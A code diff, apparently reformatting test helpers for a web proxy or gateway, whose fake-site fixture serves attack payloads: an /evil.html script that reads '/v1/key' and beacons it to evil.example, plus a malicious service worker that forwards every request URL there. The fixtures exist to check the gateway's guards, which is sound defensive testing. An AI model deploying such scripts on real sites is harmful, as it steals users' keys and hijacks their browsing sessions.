@@ -14,7 +14,10 @@ export async function testCertificate(names: string[]): Promise<{ key: string; c
     algorithm: "sha256",
     extensions: [
       { name: "basicConstraints", cA: true },
-      { name: "subjectAltName", altNames: [...names.map((value) => ({ type: 2 as const, value })), { type: 7 as const, ip: "127.0.0.1" }] },
+      {
+        name: "subjectAltName",
+        altNames: [...names.map((value) => ({ type: 2 as const, value })), { type: 7 as const, ip: "127.0.0.1" }],
+      },
     ],
   });
   const caFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "ca-")), "ca.pem");
@@ -33,7 +36,12 @@ export async function startFakeSite(
     hits.push(url.pathname + url.search);
     switch (url.pathname) {
       case "/page":
-        res.writeHead(200, { "content-type": "text/html; charset=utf-8", "set-cookie": "session=secret", connection: "keep-alive", "x-custom": "kept" });
+        res.writeHead(200, {
+          "content-type": "text/html; charset=utf-8",
+          "set-cookie": "session=secret",
+          connection: "keep-alive",
+          "x-custom": "kept",
+        });
         return res.end("<h1>hello from the fake site</h1>");
       case "/evil.html":
         // What an attacker would proxy onto the gateway's origin: script that acts as the signed-in user.
@@ -47,8 +55,14 @@ export async function startFakeSite(
         return res.end(`<script>fetch("/v1/key").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t));
 navigator.serviceWorker.register("/v1/proxy?url=https://evil.test/sw.js", { scope: "/" });</script>`);
       case "/sw.js":
-        res.writeHead(200, { "content-type": "text/javascript", "service-worker-allowed": "/", link: "</sw.js>; rel=serviceworker" });
-        return res.end(`self.addEventListener("fetch", (e) => e.respondWith(fetch("https://evil.example/?" + e.request.url)));`);
+        res.writeHead(200, {
+          "content-type": "text/javascript",
+          "service-worker-allowed": "/",
+          link: "</sw.js>; rel=serviceworker",
+        });
+        return res.end(
+          `self.addEventListener("fetch", (e) => e.respondWith(fetch("https://evil.example/?" + e.request.url)));`,
+        );
       case "/shot": {
         // A page that tries to pull from a forbidden origin three ways; the capture must still work.
         const bad = options.forbiddenOrigin ?? "https://127.0.0.1:9";
@@ -115,7 +129,10 @@ pc.createOffer().then((offer) => pc.setLocalDescription(offer));</script>`);
 }
 
 /** A TLS server that only counts connections: anything reaching it means a guard failed. */
-export async function startSentinel(tlsPair: { key: string; cert: string }): Promise<{ port: number; connections: () => number; close(): Promise<void> }> {
+export async function startSentinel(tlsPair: {
+  key: string;
+  cert: string;
+}): Promise<{ port: number; connections: () => number; close(): Promise<void> }> {
   let connections = 0;
   const server = https.createServer({ key: tlsPair.key, cert: tlsPair.cert }, (_req, res) => res.end("sentinel"));
   server.on("connection", () => (connections += 1));
@@ -138,5 +155,9 @@ export async function startUdpSentinel(): Promise<{ port: number; packets: () =>
   const socket = dgram.createSocket("udp4");
   socket.on("message", () => (packets += 1));
   await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
-  return { port: socket.address().port, packets: () => packets, close: () => new Promise((resolve) => socket.close(() => resolve())) };
+  return {
+    port: socket.address().port,
+    packets: () => packets,
+    close: () => new Promise((resolve) => socket.close(() => resolve())),
+  };
 }
